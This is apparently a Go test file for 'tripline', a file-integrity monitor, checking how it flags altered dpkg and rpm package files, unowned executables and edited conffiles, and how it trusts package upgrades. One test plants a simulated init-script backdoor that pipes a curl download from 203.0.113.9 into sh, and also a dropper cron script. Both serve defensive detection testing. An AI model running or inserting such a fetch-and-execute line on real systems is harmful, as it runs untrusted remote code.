package main

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/tripline/tripline/internal/pkgtest"
	"github.com/tripline/tripline/internal/testenv"
)

// pkgFormat is how one package manager builds and installs the tests' packages.
type pkgFormat struct {
	name, typ string
	tools     []string
	prepare   func(t *testing.T, root string)
	build     func(t testing.TB, s pkgtest.Spec) string
	args      func(root, file string) []string // the install (or upgrade) command, argv[0] first
	version   func(v string) string            // the version the database records
	// live: the daemon names the new version of each change as it happens. dpkg records the
	// version it unpacks first (its control area, tmp.ci); rpm adds the header to its database
	// only after the files, so the daemon reads it from the package file rpm has open.
	live bool
	// hold, when set, keeps the package manager from recording the version it installs until
	// release is called (rpm: the database's write lock).
	hold func(t testing.TB, root string) (release func())
}

var pkgFormats = []pkgFormat{
	{name: "dpkg", typ: "deb", tools: []string{"dpkg", "dpkg-deb"}, prepare: func(t *testing.T, root string) { pkgtest.DpkgRoot(t, root) },
		build: pkgtest.BuildDeb, args: func(root, f string) []string { return append([]string{"dpkg"}, pkgtest.DpkgArgs(root, f)...) },
		version: func(v string) string { return v }, live: true},
	{name: "rpm", typ: "rpm", tools: []string{"rpm", "rpmbuild"}, prepare: func(*testing.T, string) {},
		build: pkgtest.BuildRPM, args: func(root, f string) []string { return append([]string{"rpm"}, pkgtest.RPMArgs(root, f)...) },
		version: func(v string) string { return v + "-1" }, live: true, hold: pkgtest.HoldRPMDB},
}

// mergeUsr makes the fixture root's /lib a symlink to usr/lib, as a merged-/usr system has.
func mergeUsr(t *testing.T, fx *fixture) {
	if err := os.MkdirAll(fx.path("usr/lib"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("usr/lib", fx.path("lib")); err != nil {
		t.Fatal(err)
	}
}

func installPkg(t *testing.T, f pkgFormat, root, file string) {
	t.Helper()
	argv := f.args(root, file)
	if out, err := exec.Command(argv[0], argv[1:]...).CombinedOutput(); err != nil {
		t.Fatalf("%v: %v\n%s", argv, err, out)
	}
}

// TestFirstScanAgainstPackages: a real package built by dpkg-deb (rpmbuild) and installed with
// dpkg --root (rpm --root). One of its files is altered before the first scan, which reports it
// as package-file-modified; an executable no package owns is unowned-executable; the intact
// files, one of them under the merged-/usr alias /lib, are verified and raise nothing.
func TestFirstScanAgainstPackages(t *testing.T) {
	testenv.RequireRoot(t)
	for _, f := range pkgFormats {
		t.Run(f.name, func(t *testing.T) {
			pkgtest.Need(t, f.tools...)
			fx := newFixture(t)
			mergeUsr(t, fx)
			f.prepare(t, fx.root)
			spec := pkgtest.Spec{Name: "tripline-pkg", Version: "1.0", Files: map[string]pkgtest.File{
				"/etc/cron.daily/tripline-pkg":                {Content: "#!/bin/sh\necho daily\n", Mode: 0o755},
				"/etc/init.d/tripline-pkg":                    {Content: "#!/bin/sh\necho init\n", Mode: 0o755},
				"/etc/cron.d/tripline-pkg":                    {Content: "0 * * * * root true\n", Mode: 0o644, Conffile: true},
				"/lib/systemd/system-generators/tripline-pkg": {Content: "#!/bin/sh\nexit 0\n", Mode: 0o755},
			}}
			installPkg(t, f, fx.root, f.build(t, spec))
			fx.write(t, "etc/init.d/tripline-pkg", "#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n", 0o755) // the backdoor
			fx.write(t, "etc/cron.daily/dropper", "#!/bin/sh\n/tmp/.x\n", 0o755)
			fx.write(t, "etc/cron.d/tripline-pkg", "0 3 * * * root true\n", 0o644) // the admin's edit

			r := tl(t, fx, "scan", "--format", "json")
			fs := findings(parseLines(t, r.stdout))
			mod := fs["/etc/init.d/tripline-pkg"]
			if mod == nil || mod["rule"] != "package-file-modified" || mod["severity"] != "high" || mod["verdict"] != "alert" || mod["kind"] != "present" {
				t.Errorf("altered package file: %v\n%s", mod, r.stdout)
			}
			if un := fs["/etc/cron.daily/dropper"]; un == nil || un["rule"] != "unowned-executable" || un["severity"] != "medium" {
				t.Errorf("unowned executable: %v", un)
			}
			if cf := fs["/etc/cron.d/tripline-pkg"]; cf == nil || cf["rule"] != "conffile-modified" || cf["severity"] != "info" || cf["verdict"] != "recorded" {
				t.Errorf("edited conffile: %v", cf)
			}
			for _, p := range []string{"/etc/cron.daily/tripline-pkg", "/usr/lib/systemd/system-generators/tripline-pkg"} {
				if fs[p] != nil {
					t.Errorf("%s is as its package shipped it, yet: %v", p, fs[p])
				}
			}
			if r.code&4 == 0 {
				t.Errorf("exit %d: want the changed bit for the altered package file", r.code)
			}

			// Every baseline path carries its package and state; the generator is found under
			// its merged-/usr alias.
			show := tl(t, fx, "baseline", "show", "--format", "json")
			states := map[string]string{}
			for _, l := range parseLines(t, show.stdout) {
				pkg, _ := l["package"].(map[string]any)
				if pkg == nil {
					continue
				}
				states[l["path"].(string)] = fmt.Sprintf("%v %v %v %v", pkg["name"], pkg["version"], pkg["type"], pkg["state"])
			}
			want := "tripline-pkg " + f.version("1.0") + " " + f.typ
			for p, w := range map[string]string{
				"/etc/init.d/tripline-pkg":                        want + " modified",
				"/etc/cron.daily/tripline-pkg":                    want + " verified",
				"/etc/cron.d/tripline-pkg":                        want + " conffile-modified",
				"/usr/lib/systemd/system-generators/tripline-pkg": want + " verified",
				"/etc/cron.daily/dropper":                         "<nil> <nil> <nil> unowned",
			} {
				if states[p] != w {
					t.Errorf("baseline show %s: %q, want %q", p, states[p], w)
				}
			}
			text := tl(t, fx, "baseline", "show")
			if !strings.Contains(text.stdout, want[:strings.LastIndex(want, " ")]+" ("+f.typ+")") {
				t.Errorf("baseline show (text) does not name the package:\n%s", text.stdout)
			}

			// The exports carry them too.
			for format, want := range map[string]string{
				"csv":  "/usr/lib/systemd/system-generators/tripline-pkg,",
				"json": `"package_state": "modified"`,
				"html": "tripline-pkg " + f.version("1.0") + " (" + f.typ + "), verified",
			} {
				x := tl(t, fx, "baseline", "export", "--format", format)
				if x.code != 0 || !strings.Contains(x.stdout, want) {
					t.Errorf("export %s (exit %d) lacks %q", format, x.code, want)
				}
			}
			csv := tl(t, fx, "baseline", "export", "--format", "csv").stdout
			if !strings.Contains(csv, ",tripline-pkg,"+f.version("1.0")+","+f.typ+",verified") || !strings.Contains(csv, "package_name,package_version,package_type,package_state") {
				t.Errorf("csv export lacks the package columns:\n%s", csv)
			}

			// A later scan still reports them, in ECS with package.name/version/type.
			r = tl(t, fx, "scan", "--format", "ecs")
			var sawMod, sawConf, sawUnowned bool
			for _, l := range parseLines(t, r.stdout) {
				file, _ := l["file"].(map[string]any)
				rule, _ := l["rule"].(map[string]any)
				pkg, _ := l["package"].(map[string]any)
				switch {
				case file["path"] == "/etc/init.d/tripline-pkg" && rule["id"] == "package-file-modified":
					sawMod = pkg != nil && pkg["name"] == "tripline-pkg" && pkg["version"] == f.version("1.0") && pkg["type"] == f.typ
				case file["path"] == "/etc/cron.d/tripline-pkg":
					tlf, _ := l["tripline"].(map[string]any)
					sawConf = rule["id"] == "conffile-modified" && tlf["verdict"] == "recorded"
				case file["path"] == "/etc/cron.daily/dropper" && rule["id"] == "unowned-executable":
					sawUnowned = pkg == nil
				}
			}
			if !sawMod || !sawConf || !sawUnowned {
				t.Errorf("second scan (ecs): modified %v, conffile %v, unowned %v\n%s", sawMod, sawConf, sawUnowned, r.stdout)
			}
		})
	}
}

// upgradeSpec is a package of n scripts in executed locations, version v.
func upgradeSpec(n int, v string) pkgtest.Spec {
	s := pkgtest.Spec{Name: "tripline-upgrade", Version: v, Files: map[string]pkgtest.File{}}
	dirs := []string{"/etc/cron.daily", "/etc/init.d", "/etc/update-motd.d", "/lib/systemd/system-generators"}
	for i := 0; i < n; i++ {
		p := fmt.Sprintf("%s/tripline-upgrade-%02d", dirs[i%len(dirs)], i)
		s.Files[p] = pkgtest.File{Content: fmt.Sprintf("#!/bin/sh\n# version %s\necho %d\n", v, i), Mode: 0o755}
	}
	return s
}

// logicalOf is where the daemon sees a package path: /lib is /usr/lib on a merged-/usr root.
func logicalOf(p string) string {
	if strings.HasPrefix(p, "/lib/") {
		return "/usr" + p
	}
	return p
}

// TestWatchPackageUpgrade: upgrading a package under the daemon rewrites its scripts; every
// change is trusted as matching the new version, none alerts, and the history names the version.
func TestWatchPackageUpgrade(t *testing.T) {
	testenv.RequireRoot(t)
	// The upgrade rewrites 500 files in locations; the suite runs 100 (the test's polling
	// is quadratic), TRIPLINE_UPGRADE_FILES=500 runs the size.
	n := 100
	if v, err := strconv.Atoi(os.Getenv("TRIPLINE_UPGRADE_FILES")); err == nil && v > 0 {
		n = v
	}
	for _, f := range pkgFormats {
		t.Run(f.name, func(t *testing.T) {
			pkgtest.Need(t, f.tools...)
			fx, _ := newWatchFixture(t)
			mergeUsr(t, fx)
			f.prepare(t, fx.root)
			installPkg(t, f, fx.root, f.build(t, upgradeSpec(n, "1.0")))
			v2 := f.build(t, upgradeSpec(n, "2.0"))
			d := startWatch(t, fx, "")
			argv := f.args(fx.root, v2)
			want := f.version("2.0")
			if f.hold == nil {
				act(t, argv...)
			} else {
				// The package manager is held after its files and before its database commit:
				// each change must be named while only the package being installed says 2.0.
				release := f.hold(t, fx.root)
				cmd := exec.Command(argv[0], argv[1:]...)
				var out bytes.Buffer
				cmd.Stdout, cmd.Stderr = &out, &out
				if err := cmd.Start(); err != nil {
					t.Fatal(err)
				}
				for p := range upgradeSpec(n, "2.0").Files {
					d.waitEvent(t, logicalOf(p), func(e ecsEvent) bool { return e.Package != nil && e.Package.Version == want })
				}
				release()
				if err := cmd.Wait(); err != nil {
					t.Fatalf("%v: %v\n%s", argv, err, out.String())
				}
			}
			named := 0
			// The sync file's line comes after every change made before it (see sync): each path's
			// events are all there, the last one the change that put the new version in place.
			d.sync(t)
			evs := d.poll(t)
			for p := range upgradeSpec(n, "2.0").Files {
				pe := eventsFor(evs, logicalOf(p))
				if len(pe) == 0 {
					t.Errorf("%s: no event", p)
					continue
				}
				for _, e := range pe {
					if e.Tripline.Verdict != "trusted" || e.Package == nil || e.Package.Type != f.typ {
						t.Errorf("%s: verdict %s, why %q, package %+v: want trusted", p, e.Tripline.Verdict, e.Tripline.Why, e.Package)
					}
				}
				e := pe[len(pe)-1]
				if e.Package != nil && e.Package.Version == want && strings.HasPrefix(e.Tripline.Why, "matches tripline-upgrade "+want+" (") {
					named++
				} else if f.live {
					t.Errorf("%s: why %q, package %+v: want it to match %s", p, e.Tripline.Why, e.Package, want)
				}
			}
			alerts := 0
			for _, e := range d.poll(t) {
				if e.Event.Kind == "alert" && !strings.HasPrefix(e.File.Path, "/etc/cron.weekly/zz-sync-") {
					alerts++
					t.Errorf("alert during the upgrade: %s %s (%s)", e.File.Path, e.Rule.ID, e.Tripline.Why)
				}
			}
			t.Logf("%s upgrade of %d scripts: %d events, %d alerts, %d named %s as they happened", f.name, n, len(d.poll(t)), alerts, named, want)
			d.stop(t)
			if f.live {
				h := tl(t, fx, "history", "--format", "json", "/etc/init.d/tripline-upgrade-01")
				if !regexp.MustCompile(`"version":\s*"` + regexp.QuoteMeta(want) + `"`).MatchString(h.stdout) {
					t.Errorf("history does not name %s (exit %d):\n%s%s", want, h.code, h.stdout, h.stderr)
				}
			}
			// The next scan verifies every script against the new version.
			r := tl(t, fx, "scan", "--format", "json")
			for p := range upgradeSpec(n, "2.0").Files {
				fd := findings(parseLines(t, r.stdout))[logicalOf(p)]
				nw, _ := fd["new"].(map[string]any)
				pkg, _ := nw["package"].(map[string]any)
				if pkg["version"] != want || pkg["state"] != "verified" {
					t.Errorf("scan after the upgrade, %s: package %v, want %s verified", p, pkg, want)
				}
			}
		})
	}
}
